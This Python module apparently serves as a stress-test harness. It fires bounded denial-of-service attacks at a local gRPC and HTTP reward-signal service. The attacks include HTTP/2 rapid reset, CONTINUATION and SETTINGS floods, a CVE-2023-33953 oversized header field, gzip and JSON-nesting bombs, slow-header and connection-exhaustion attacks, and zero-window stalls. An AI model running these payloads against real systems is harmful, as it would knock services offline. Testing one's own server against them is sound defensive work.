"""The attacks, each bounded in connections, time and memory of its own. `ATTACKS` names them."""

from __future__ import annotations

import contextlib
import gzip
import itertools
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import grpc
from assay_rl.v1 import episode_pb2, options_pb2, signal_service_pb2, signal_service_pb2_grpc

from attack.wire import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    SERVICE,
    SETTINGS,
    WINDOW_UPDATE,
    Target,
    Wire,
    call_head,
    frame,
    literal,
    message,
)  # fmt: skip

Attack = Callable[[Target, float], None]
ATTACKS: dict[str, Attack] = {}
LET_IN: set[str] = set()  # those whose attacker has a token, and a certificate where one is asked for
COMPUTE = SERVICE + "ComputeSignals"


def attack(function: Attack) -> Attack:
    """By anybody."""
    ATTACKS[function.__name__] = function
    return function


def attack_from_inside(function: Attack) -> Attack:
    """By a caller who is let in."""
    LET_IN.add(function.__name__)
    return attack(function)


def until(seconds: float) -> Iterator[int]:
    """Counts until the time is over."""
    end = time.monotonic() + seconds
    return itertools.takewhile(lambda _: time.monotonic() < end, itertools.count())


def together(count: int, work: Callable[[int], None]) -> None:
    def quietly(number: int) -> None:
        with contextlib.suppress(OSError, grpc.RpcError):
            work(number)

    threads = [threading.Thread(target=quietly, args=(number,), daemon=True) for number in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def flood(target: Target, seconds: float, batch: Callable[[int], bytes], connections: int = 4) -> None:
    """Sends batch after batch on a few connections, and connects again where it was cut off."""

    def one(_: int) -> None:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                wire = Wire(target)
                for number in itertools.count():
                    if time.monotonic() > end or not wire.send(batch(number)):
                        break
                    wire.drop()
                wire.close()

    together(connections, one)


def stream_ids(number: int, each: int) -> range:
    first = 1 + 2 * number * each
    return range(first, first + 2 * each, 2)


def _unary(target: Target, seconds: float, head: bytes, body: bytes) -> None:
    """One call after the other by four, each on a connection of its own."""

    def one(_: int) -> None:
        for _ in until(seconds):
            wire = Wire(target)
            wire.send(frame(HEADERS, END_HEADERS, 1, head))
            wire.send_data(1, body)
            wire.read(1)
            wire.close()

    together(4, one)


# Anybody, without a token.


@attack
def gzip_bomb(target: Target, seconds: float) -> None:
    bomb = message(gzip.compress(bytes(1 << 29), 9), compressed=True)  # half a MB for half a GiB
    head = call_head(COMPUTE, None, grpc_encoding="gzip")
    _unary(target, seconds, head, bomb)


@attack_from_inside
def gzip_bomb_with_token(target: Target, seconds: float) -> None:
    bomb = message(gzip.compress(bytes(1 << 29), 9), compressed=True)
    head = call_head(COMPUTE, target.token, grpc_encoding="gzip")
    _unary(target, seconds, head, bomb)


@attack
def rapid_reset(target: Target, seconds: float) -> None:
    head = call_head(COMPUTE, None)
    reset = b"\0\0\0\x08"

    def batch(number: int) -> bytes:
        ids = stream_ids(number, 500)
        return b"".join(frame(HEADERS, END_HEADERS, i, head) + frame(RST_STREAM, 0, i, reset) for i in ids)

    flood(target, seconds, batch)


@attack
def continuation_flood(target: Target, seconds: float) -> None:
    part = frame(CONTINUATION, 0, 1, literal("x", "y" * 1000) * 16)
    first = frame(HEADERS, 0, 1, call_head(COMPUTE, None))
    flood(target, seconds, lambda number: part * 64 if number else first)


@attack
def endless_field(target: Target, seconds: float) -> None:
    """CVE-2023-33953: a field that says it is huge and comes in drops."""
    first = frame(HEADERS, 0, 1, b"\0\x01x\x7f\xff\xff\xff\x7f")
    drop = frame(CONTINUATION, 0, 1, b"a" * 100)
    flood(target, seconds, lambda number: drop * 200 if number else first)


@attack
def bad_paths(target: Target, seconds: float) -> None:
    head = call_head("/no.such.Service/Method" + "x" * 1000, None)

    def batch(number: int) -> bytes:
        return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, i, head) for i in stream_ids(number, 200))

    flood(target, seconds, batch)


@attack
def settings_flood(target: Target, seconds: float) -> None:
    flood(target, seconds, lambda _: frame(SETTINGS, 0, 0) * 1000)


@attack
def ping_with_data(target: Target, seconds: float) -> None:
    """A DATA frame forgives a PING too many."""
    head = frame(HEADERS, END_HEADERS, 1, call_head(SERVICE + "StreamSignals", None))
    pair = frame(PING, 0, 0, b"12345678") + frame(DATA, 0, 1)
    flood(target, seconds, lambda number: pair * 1000 if number else head)


@attack
def idle_frames(target: Target, seconds: float) -> None:
    update = frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01")
    flood(target, seconds, lambda _: update * 2000)


@attack
def empty_parts(target: Target, seconds: float) -> None:
    """Two bytes each, without a token."""
    body = message(b"\x12\0" * (8 << 20))

    def one(_: int) -> None:
        for _ in until(seconds):
            wire = Wire(target)
            wire.send(frame(HEADERS, END_HEADERS, 1, call_head(COMPUTE, None)))
            if wire.send_data(1, body):
                wire.read(1)
            wire.close()

    together(4, one)


@attack
def connections(target: Target, seconds: float) -> None:
    """More than there are descriptors for, saying nothing."""
    held: list[Wire] = []
    for _ in until(seconds):
        with contextlib.suppress(OSError):
            held.append(Wire(target, preface=False, tls=False))
        if len(held) >= 2000:
            time.sleep(0.1)
    for wire in held:
        wire.close()


def _silent(target: Target, port: int, seconds: float, beginning: bytes) -> None:
    held = []
    for _ in range(400):
        with contextlib.suppress(OSError):
            wire = Wire(target, port, preface=False, tls=False)
            wire.send(beginning)
            held.append(wire)
    time.sleep(seconds)
    for wire in held:
        wire.close()


@attack
def silent_http(target: Target, seconds: float) -> None:
    _silent(target, target.http_port, seconds, b"")


@attack
def slow_head(target: Target, seconds: float) -> None:
    _silent(target, target.http_port, seconds, b"POST /v1/signals HTTP/1.1\r\nHost: local")


@attack
def silent_metrics(target: Target, seconds: float) -> None:
    _silent(target, target.metrics_port, seconds, b"")


@attack
def body_without_token(target: Target, seconds: float) -> None:
    def one(_: int) -> None:
        for _ in until(seconds):
            wire = Wire(target, target.http_port, preface=False, tls=False)
            wire.send(b"POST /v1/signals HTTP/1.1\r\nHost: localhost\r\nContent-Length: 60000000\r\n\r\n")
            for _ in range(60):
                if not wire.send(bytes(1000000)):
                    break
            wire.close()

    together(8, one)


@attack
def lines(target: Target, seconds: float) -> None:
    """Streams that are refused, each of which would be a line of the log."""
    head = call_head(SERVICE + "StreamSignals", None)

    def batch(number: int) -> bytes:
        return b"".join(frame(HEADERS, END_HEADERS, i, head) for i in stream_ids(number, 100))

    flood(target, seconds, batch)


# Let in.


def bearer(target: Target) -> list[tuple[str, str]]:
    return [("authorization", f"Bearer {target.token}")]


def channel(target: Target, *more: tuple[str, int | str]) -> grpc.Channel:
    options = [("grpc.max_receive_message_length", 64 << 20), ("grpc.use_local_subchannel_pool", 1), *more]
    where = f"localhost:{target.port}"
    if not target.authority:
        return grpc.insecure_channel(where, options=options)
    own = Path(target.certificate).read_bytes() if target.certificate else None
    credentials = grpc.ssl_channel_credentials(Path(target.authority).read_bytes(), own, own)
    return grpc.secure_channel(where, credentials, options=options)


def debate(number: int, agents: int = 4, turns: int = 8, letters: int = 60) -> episode_pb2.Episode:
    episode = episode_pb2.Episode(id=f"e{number}")
    episode.outcome.score = 1
    episode.task.reference_answer = "A"
    for agent in range(agents):
        episode.agents.add(id=f"agent-{agent}")
    for turn in range(turns):
        text = f"In turn {turn} of {number} I say "
        episode.messages.add(agent_id=f"agent-{turn % agents}", round=turn // agents, answer="ABC"[(turn + number) % 3],
                             content=(text * (1 + letters // len(text)))[:letters])  # fmt: skip
    return episode


def _http(target: Target, path: str, body: bytes, seconds: float, threads: int = 8) -> None:
    head = (f"POST {path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {target.token}\r\n"
            f"Content-Length: {len(body)}\r\n\r\n").encode()  # fmt: skip

    def one(_: int) -> None:
        for _ in until(seconds):
            wire = Wire(target, target.http_port, preface=False, tls=False)
            wire.send(head + body)
            wire.read(1)
            wire.close()

    together(threads, one)


@attack_from_inside
def json_nesting(target: Target, seconds: float) -> None:
    _http(target, "/get_reward", b"[" * 40_000, seconds)


@attack_from_inside
def json_empty_parts(target: Target, seconds: float) -> None:
    body = b'{"episodes":[' + b"{}," * (4 << 20) + b"{}]}"
    _http(target, "/v1/signals", body, seconds, threads=4)


@attack_from_inside
def empty_parts_with_token(target: Target, seconds: float) -> None:
    body = message(b"\x12\0" * (8 << 20))
    _unary(target, seconds, call_head(COMPUTE, target.token), body)


@attack_from_inside
def half_sent(target: Target, seconds: float) -> None:
    """Calls that say how much is to come, and stop."""
    body = message(bytes(32 << 20))[: 1 << 20]

    def one(_: int) -> None:
        wire = Wire(target)
        for stream in stream_ids(0, 100):
            wire.send(frame(HEADERS, END_HEADERS, stream, call_head(COMPUTE, target.token)))
            wire.send_data(stream, body[:60_000], end=False, patience=0.2)
        for _ in until(seconds):
            time.sleep(0.2)
        wire.close()

    together(16, one)


@attack_from_inside
def unread_answers(target: Target, seconds: float) -> None:
    request = signal_service_pb2.ComputeSignalsRequest(episodes=[debate(i, agents=6, turns=24) for i in range(200)])
    request.options.vote.SetInParent()
    body = message(request.SerializeToString())

    def one(_: int) -> None:
        wire = Wire(target, preface=False)
        # A window of one byte: the answer cannot be sent.
        wire.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\x01"))
        for stream in stream_ids(0, 100_000):
            sent = wire.send(frame(HEADERS, END_HEADERS, stream, call_head(COMPUTE, target.token)))
            if not sent or not wire.send_data(stream, body) or time.monotonic() > end:
                break
        while time.monotonic() < end:
            time.sleep(0.2)
        wire.close()

    end = time.monotonic() + seconds
    together(8, one)


def _streams(target: Target, seconds: float, options: options_pb2.AttributionOptions,
             episodes: Callable[[int], episode_pb2.Episode], streams: int, credits: int) -> None:  # fmt: skip
    """Streams that send as much as they have credits for, read results, and answer no question."""
    request = signal_service_pb2.StreamSignalsRequest

    def one(_: int) -> None:
        with channel(target, ("attack", _)) as through:
            free = threading.Semaphore(credits)
            over = threading.Event()

            def requests() -> Iterator[signal_service_pb2.StreamSignalsRequest]:
                yield request(options=options)
                for number in until(seconds):
                    if not free.acquire(timeout=0.5):
                        continue
                    yield request(episode=episodes(number))
                over.wait(1)

            call = signal_service_pb2_grpc.SignalServiceStub(through).StreamSignals(
                requests(), metadata=bearer(target), timeout=seconds + 2
            )
            for response in call:
                if response.HasField("result"):
                    free.release()

    together(streams, one)


@attack_from_inside
def caller_plans(target: Target, seconds: float) -> None:
    options = options_pb2.AttributionOptions()
    options.caller.free = True
    _streams(target, seconds, options, lambda i: debate(i, agents=20, turns=20), streams=4, credits=200)


@attack_from_inside
def heavy_episodes(target: Target, seconds: float) -> None:
    options = options_pb2.AttributionOptions()
    options.outcome.SetInParent()
    options.first_error.soft_rewards = True

    def failed(number: int) -> episode_pb2.Episode:
        episode = debate(number, agents=20, turns=4000, letters=200)
        episode.outcome.score = 0
        return episode

    _streams(target, seconds, options, failed, streams=2, credits=16)


@attack_from_inside
def heavy_unary(target: Target, seconds: float) -> None:
    request = signal_service_pb2.ComputeSignalsRequest(episodes=[debate(i, agents=12, turns=60) for i in range(300)])
    request.options.vote.SetInParent()

    def one(_: int) -> None:
        with channel(target, ("attack", _)) as through:
            stub = signal_service_pb2_grpc.SignalServiceStub(through)
            for _ in until(seconds):
                with contextlib.suppress(grpc.RpcError):
                    stub.ComputeSignals(request, metadata=bearer(target), timeout=seconds)

    together(4, one)


@attack_from_inside
def tiny_messages(target: Target, seconds: float) -> None:
    """Episodes that are refused, as fast as they can be sent."""
    options = options_pb2.AttributionOptions()
    options.outcome.SetInParent()
    head = call_head(SERVICE + "StreamSignals", target.token)
    first = message(signal_service_pb2.StreamSignalsRequest(options=options).SerializeToString())
    tiny = message(signal_service_pb2.StreamSignalsRequest(episode=episode_pb2.Episode(id="x")).SerializeToString())

    def one(_: int) -> None:
        for _ in until(seconds):
            wire = Wire(target)
            wire.send(frame(HEADERS, END_HEADERS, 1, head) + frame(DATA, 0, 1, first))
            for _ in until(seconds):
                if not wire.send(frame(DATA, 0, 1, tiny * 400)):
                    break
                wire.drop()
            wire.close()

    together(4, one)


@attack_from_inside
def advantages(target: Target, seconds: float) -> None:
    episodes = [debate(i) for i in range(64)]
    with channel(target) as through:
        stub = signal_service_pb2_grpc.SignalServiceStub(through)
        request = signal_service_pb2.ComputeSignalsRequest(episodes=episodes)
        request.options.vote.SetInParent()
        results = stub.ComputeSignals(request, metadata=bearer(target), timeout=20).results
    large = signal_service_pb2.ComputeAdvantagesRequest()
    for number in range(1000):
        large.episodes.add().CopyFrom(results[number % 64].signals)
        large.episodes[-1].episode_id = f"e{number}"
    body = message(large.SerializeToString())

    def one(_: int) -> None:
        wire = Wire(target)
        for stream in stream_ids(0, 1000):
            head = call_head(SERVICE + "ComputeAdvantages", target.token)
            if time.monotonic() > end or not wire.send(frame(HEADERS, END_HEADERS, stream, head)):
                break
            if not wire.send_data(stream, body):
                break
            wire.send(frame(WINDOW_UPDATE, 0, 0, b"\0\x10\0\0"))
        wire.close()

    end = time.monotonic() + seconds
    together(8, one)
